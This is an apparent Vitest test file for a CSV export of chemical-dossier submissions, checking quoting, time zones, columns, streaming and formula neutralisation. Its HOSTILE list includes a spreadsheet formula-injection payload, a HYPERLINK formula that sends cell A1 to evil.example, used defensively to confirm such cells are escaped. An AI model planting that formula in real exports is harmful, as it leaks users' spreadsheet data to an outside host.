import { describe, expect, it } from 'vitest';
import { seeded } from '../../fixtures/seeded';
import type { TextSink } from '../../../src-main/ipc/services';
import { encodeCell, encodeRecord, encodeRow, neutraliseFormula, quoteField } from '../../../src-main/workflows/csv/cell';
import type { CellValue } from '../../../src-main/workflows/csv/cell';
import { headerValues, rowValues, submissionColumns, validationColumns, type ExportValidation } from '../../../src-main/workflows/csv/columns';
import { localeCsvDelimiter, sortableStamp } from '../../../src-preload/locale';

const SUBMISSION_COLUMNS = submissionColumns({ timeZone: 'UTC' });
const VALIDATION_COLUMNS = validationColumns({ timeZone: 'UTC' });
import { streamCsv } from '../../../src-main/workflows/csv/stream';
import { makeSummary } from '../../integration/workflows/support/summaries';
import { parseCsvWithPython } from '../../integration/workflows/support/python-csv';

function memorySink(): TextSink & { text(): string; writes: number } {
  const parts: string[] = [];
  const sink = {
    writes: 0,
    async write(chunk: string) {
      parts.push(chunk);
      sink.writes += 1;
    },
    async close() {},
    text: () => parts.join(''),
  };
  return sink;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+41 22 000',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
  '\rCarriage',
  'semi;colon',
  'com,ma',
  'quote " inside',
  'line\nbreak',
  'crlf\r\nbreak',
  'Gemisch ä ö ü — ✓',
  '  spaces kept  ',
  '',
];

describe('cells', () => {
  it('neutralises formula starters with a leading apostrophe', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutraliseFormula(`${start}x`)).toBe(`'${start}x`);
    expect(neutraliseFormula('AAD678032-54')).toBe('AAD678032-54');
    expect(neutraliseFormula('a=b')).toBe('a=b');
  });

  it('quotes per RFC 4180 only when needed', () => {
    expect(quoteField('plain', ',')).toBe('plain');
    expect(quoteField('a,b', ',')).toBe('"a,b"');
    expect(quoteField('a,b', ';')).toBe('a,b');
    expect(quoteField('a;b', ';')).toBe('"a;b"');
    expect(quoteField('say "hi"', ',')).toBe('"say ""hi"""');
    expect(quoteField('a\nb', ';')).toBe('"a\nb"');
    expect(encodeCell(['FI', 'DE'], ',')).toBe('"FI, DE"');
    expect(encodeCell(null, ',')).toBe('');
    expect(encodeCell(3, ',')).toBe('3');
    expect(encodeCell(0, ';')).toBe('0');
    expect(encodeCell(1.5, ';')).toBe('1.5');
    // A negative number starts like a formula: neutralised like any text that does.
    expect(encodeCell(-1, ',')).toBe("'-1");
    expect(encodeCell([], ',')).toBe('');
    expect(encodeCell('', ';')).toBe('');
    expect(encodeRecord(['a', 'b'], ';')).toBe('a;b\r\n');
  });

  it('replaces lone surrogates so the output is valid UTF-8', () => {
    expect(encodeCell('x\uD800y', ',')).toBe('x\uFFFDy');
  });
});

describe('encodeRow', () => {
  it('writes every row exactly as encodeRecord writes its values, plain or not, for both delimiters', () => {
    const next = seeded(3);
    // Mostly plain cells, with every character that needs work somewhere in some of them.
    const parts = ['a', 'Red paint', '2024-05-01 10:00:00', '12', '', ' ', ',', ';', '"', '\n', '\r', '\t', '=', '+', '-', '@', '\uD800', '\uDC00', '\uD83D\uDE00', 'x=1', 'ECHA-83a6', ', '];
    const cell = (): CellValue => {
      const kind = next(10);
      if (kind === 0) return null;
      if (kind === 1) return next(1000);
      if (kind === 2) return [parts[next(parts.length)]!, parts[next(parts.length)]!];
      const n = next(4);
      let text = '';
      for (let i = 0; i < n; i++) text += next(3) === 0 ? parts[next(parts.length)] : parts[next(4)];
      return text;
    };
    let plain = 0;
    for (let r = 0; r < 20_000; r++) {
      const values = Array.from({ length: 1 + next(8) }, cell);
      const columns = values.map((_, i) => ({ value: (row: readonly CellValue[]) => row[i] }));
      for (const delimiter of [',', ';'] as const) {
        const expected = encodeRecord(values, delimiter);
        expect(encodeRow(columns, values, delimiter), JSON.stringify(values)).toBe(expected);
        if (expected === values.map((v) => (v === null || v === undefined ? '' : Array.isArray(v) ? v.join(', ') : String(v))).join(delimiter) + '\r\n') plain += 1;
      }
    }
    // both plain lines and lines needing work were written many times
    expect(plain).toBeGreaterThan(2_000);
    expect(plain).toBeLessThan(38_000);
  });
});

describe('rows', () => {
  it('one row per submission with every column the issue names', () => {
    const headers = headerValues(SUBMISSION_COLUMNS);
    for (const h of ['Legal entity', 'LE UUID', 'Mode', 'Test run', 'Submission number', 'Status', 'Status code', 'Submitted at (UTC)', 'File name',
      'Dossier UUID', 'Submission type', 'PCN/SCIP number', 'UFIs', 'FAIL count', 'WARN count', 'Validation codes',
      'Dispatched to', 'Downloaded by', 'Report URL']) {
      expect(headers).toContain(h);
    }
    const row = rowValues(SUBMISSION_COLUMNS, { submission: makeSummary(), profileName: 'Demo Chemicals Oy' });
    const get = (h: string) => row[headers.indexOf(h)];
    expect(get('Mode')).toBe('PRODUCTION');
    expect(get('Test run')).toBeNull();
    expect(get('PCN/SCIP number')).toBe('e3a9c9b4-7a44-4d2b-9a1f-3f2c1b0a9d8e');
    expect(get('Dispatched to')).toEqual(['DE', 'FI']);
    expect(get('FAIL count')).toBe(1);
    expect(get('Status')).toBe('Failed');
    expect(get('Status code')).toBe('VALIDATION_FAILED');
    expect(get('Submitted at (UTC)')).toBe('2025-03-01 08:00:00');
    expect(get('Final at (UTC)')).toBe('2025-03-01 08:05:00');
  });

  it('times are written in the chosen zone, named in the header', () => {
    const helsinki = submissionColumns({ timeZone: 'Europe/Helsinki' });
    const headers = headerValues(helsinki);
    expect(headers).toContain('Submitted at (Europe/Helsinki)');
    expect(headers).not.toContain('Submitted at (UTC)');
    // March 2025: Helsinki is UTC+2 before the switch on the 30th, UTC+3 after.
    const winter = rowValues(helsinki, { submission: makeSummary({ submittedAt: '2025-03-29T22:30:00.000Z' }), profileName: null });
    const summer = rowValues(helsinki, { submission: makeSummary({ submittedAt: '2025-03-30T22:30:00.000Z' }), profileName: null });
    expect(winter[headers.indexOf('Submitted at (Europe/Helsinki)')]).toBe('2025-03-30 00:30:00');
    expect(summer[headers.indexOf('Submitted at (Europe/Helsinki)')]).toBe('2025-03-31 01:30:00');
    expect(sortableStamp(null, 'UTC')).toBeNull();
    expect(sortableStamp('not a date', 'UTC')).toBeNull();
    expect(sortableStamp('2025-12-31T23:59:59.999Z', 'UTC')).toBe('2025-12-31 23:59:59');
  });

  it('the PCN/SCIP number is ECHA’s number, never the article identifier of a failed SCIP dossier', () => {
    const headers = headerValues(SUBMISSION_COLUMNS);
    const failedScip = rowValues(SUBMISSION_COLUMNS, {
      submission: makeSummary({ kind: 'SCIP', submissionType: 'SCIP', pssi: null, pcnNumber: null, scipId: 'DEMO-CHAIR-0001' }),
      profileName: null,
    });
    expect(failedScip[headers.indexOf('PCN/SCIP number')]).toBeNull();
    expect(failedScip[headers.indexOf('SCIP article identifier')]).toBe('DEMO-CHAIR-0001');
    const passedScip = rowValues(SUBMISSION_COLUMNS, {
      submission: makeSummary({ kind: 'SCIP', status: 'VALIDATION_SUCCEEDED', pssi: '0c2d4c38-6f0f-4a68-9d0b-3f7e0c7d1a2b', scipId: 'DEMO-CHAIR-0001' }),
      profileName: null,
    });
    expect(passedScip[headers.indexOf('PCN/SCIP number')]).toBe('0c2d4c38-6f0f-4a68-9d0b-3f7e0c7d1a2b');
    expect(passedScip[headers.indexOf('Status')]).toBe('Passed');
    // A PCN without a report yet still shows the number the archive carries.
    const pcn = rowValues(SUBMISSION_COLUMNS, { submission: makeSummary({ pssi: null, pcnNumber: 'aa63e4f1-3f1e-4b7e-a3e2-8c1b7c0f0a11', status: 'PENDING' }), profileName: null });
    expect(pcn[headers.indexOf('PCN/SCIP number')]).toBe('aa63e4f1-3f1e-4b7e-a3e2-8c1b7c0f0a11');
    expect(pcn[headers.indexOf('Status')]).toBe('Pending');
    expect(pcn[headers.indexOf('SCIP article identifier')]).toBeNull();
  });

  it('test run only in integration mode', () => {
    const headers = headerValues(SUBMISSION_COLUMNS);
    const row = rowValues(SUBMISSION_COLUMNS, {
      submission: makeSummary({ space: { le: 'ECHA-5a4c0d1e-7b2f-4c3a-9e8d-1f2a3b4c5d6e', mode: { kind: 'integration', testRun: 'acme-007' } } }),
      profileName: null,
    });
    expect(row[headers.indexOf('Test run')]).toBe('acme-007');
    expect(row[headers.indexOf('Mode')]).toBe('Integration test');
  });

  it('one row per validation, with empty validation cells for a submission without any', () => {
    const headers = headerValues(VALIDATION_COLUMNS);
    const withV: ExportValidation = { submission: makeSummary(), profileName: 'X', validation: { seq: 2, level: 'FAIL', code: 'BR570', context: 'LE differs' } };
    const none: ExportValidation = { submission: makeSummary(), profileName: 'X', validation: null };
    expect(rowValues(VALIDATION_COLUMNS, withV)[headers.indexOf('Code')]).toBe('BR570');
    expect(rowValues(VALIDATION_COLUMNS, none)[headers.indexOf('Code')]).toBeNull();
    expect(rowValues(VALIDATION_COLUMNS, withV)[headers.indexOf('Dossier name')]).toBe('Mixture A');
  });
});

describe('locale defaults', () => {
  it('a semicolon where the decimal separator is a comma, a comma elsewhere', () => {
    for (const l of ['de-DE', 'fr-FR', 'fi-FI', 'sv-SE', 'it-IT', 'es-ES', 'nl-NL', 'pl-PL']) expect(localeCsvDelimiter(l)).toBe(';');
    for (const l of ['en-US', 'en-GB', 'ja-JP', 'en-IE']) expect(localeCsvDelimiter(l)).toBe(',');
  });
});

describe('streamCsv', () => {
  for (const delimiter of [',', ';'] as const) {
    it(`hostile cells parse back with an independent parser (delimiter ${JSON.stringify(delimiter)})`, async () => {
      const rows = HOSTILE.map((text, i) => ({
        submission: makeSummary({ id: i, dossierName: text, fileName: `${text}.i6z`, validationCodes: [text, 'X'] }),
        profileName: text,
      }));
      const sink = memorySink();
      const { rowCount } = await streamCsv(rows, SUBMISSION_COLUMNS, sink, { delimiter, chunkChars: 200 });
      expect(rowCount).toBe(HOSTILE.length);
      expect(sink.writes).toBeGreaterThan(2); // it did stream in chunks

      const bytes = Buffer.from(sink.text(), 'utf8');
      expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const parsed = parseCsvWithPython(bytes, delimiter);
      expect(parsed.bom).toBe(true);
      expect(parsed.rows).toHaveLength(HOSTILE.length + 1);
      const headers = parsed.rows[0]!;
      expect(headers).toEqual(headerValues(SUBMISSION_COLUMNS));
      HOSTILE.forEach((text, i) => {
        const rec = parsed.rows[i + 1]!;
        expect(rec).toHaveLength(headers.length);
        const expected = /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
        expect(rec[headers.indexOf('Legal entity')]).toBe(expected);
        expect(rec[headers.indexOf('Dossier name')]).toBe(expected);
        expect(rec[headers.indexOf('Validation codes')]).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}, X` : `${text}, X`);
        expect(rec[headers.indexOf('Submission number')]).toBe('AAD678032-54');
        expect(rec[headers.indexOf('FAIL count')]).toBe('1');
      });
      // No cell the spreadsheet would evaluate.
      for (const rec of parsed.rows) for (const cell of rec) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  }

  it('streams a generated sequence without materialising it', async () => {
    let produced = 0;
    function* gen() {
      for (let i = 0; i < 20_000; i++) {
        produced += 1;
        yield { submission: makeSummary({ id: i, number: `AAA${String(i).padStart(6, '0')}-01` }), profileName: 'P' };
      }
    }
    const progress: number[] = [];
    const sink = memorySink();
    const result = await streamCsv(gen(), SUBMISSION_COLUMNS, sink, { delimiter: ',', onProgress: (n) => progress.push(n), progressEvery: 5000 });
    expect(result.rowCount).toBe(20_000);
    expect(produced).toBe(20_000);
    expect(progress).toEqual([5000, 10000, 15000, 20000, 20000]);
    expect(sink.text().split('\r\n')).toHaveLength(20_002); // header + rows + trailing empty
  });
});
